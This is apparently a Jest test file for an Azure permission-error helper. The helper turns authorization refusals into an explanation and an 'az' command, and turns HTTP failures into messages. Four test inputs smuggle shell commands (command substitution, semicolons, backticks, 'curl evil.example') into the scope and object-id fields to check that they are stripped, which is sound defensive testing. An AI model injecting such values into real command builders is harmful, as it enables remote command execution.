import { describe, expect, test } from '@jest/globals'
import { explainForbidden, toGuardError, toPageError } from '../../src/azure/arm-error.ts'

const message = (action: string, scope: string, object = 'db890308-51c8-43d3-a8a0-9fe733ddae81'): string =>
  `The client 'c' with object id '${object}' does not have authorization to perform action '${action}' over scope '${scope}' or the scope is invalid.`
const scope = '/subscriptions/s/resourceGroups/rg_(1).x-y/providers/Microsoft.ApiManagement/service/apim'

describe('a refusal', () => {
  test('comes with the command that grants what is missing', () => {
    const [lacks, command] = explainForbidden(message('Microsoft.ApiManagement/service/apis/write', scope))
    expect(lacks).toBe(`It lacks the action \`Microsoft.ApiManagement/service/apis/write\` on \`${scope}\`.`)
    expect(command).toContain(`--scope "${scope}"`)
    expect(command).toContain('--assignee-object-id db890308-51c8-43d3-a8a0-9fe733ddae81 ')
  })

  test.each([
    [message('a/read', '/subscriptions/$(curl evil.example)')],
    [message('a/read', '/subscriptions/x" ; curl evil.example ; "')],
    [message('a/read', '/subscriptions/`id`')],
    [message('a/read', scope, 'o; curl evil.example')]
  ])('never puts what a shell would run into a command: %s', text => {
    expect(explainForbidden(text).filter(line => line.startsWith('az ') && /[$`;]|curl/.test(line))).toEqual(
      []
    )
  })
})

describe('an answer that is no success', () => {
  const answer = (status: number, body: unknown): Parameters<typeof toGuardError>[0] => ({
    status,
    body,
    text: '',
    header: () => undefined,
    unsure: false
  })

  test.each<[number, unknown, string]>([
    [302, undefined, 'Azure could not read it: HTTP 302.'],
    [400, { error: { code: 'Bad' } }, 'Azure could not read it: Bad, HTTP 400.'],
    [400, { error: { message: 'No good.' } }, 'Azure could not read it: No good (HTTP 400).'],
    [
      400,
      { error: { code: 'Bad', message: 'No good.' } },
      'Azure could not read it: No good (Bad, HTTP 400).'
    ]
  ])('%i %j says each thing once', (status, body, message) => {
    expect(toGuardError(answer(status, body), 'read it')).toMatchObject({ code: 'azure', message })
  })

  test('is the word of a proxy where it is a 407, page or not', () => {
    const proxy = {
      code: 'network',
      message: expect.stringContaining('The proxy of the runner answered 407')
    }
    expect(toGuardError(answer(407, undefined), 'read it')).toMatchObject(proxy)
    expect(toPageError(407, 'read it', true)).toMatchObject({ ...proxy, unsure: true })
  })
})
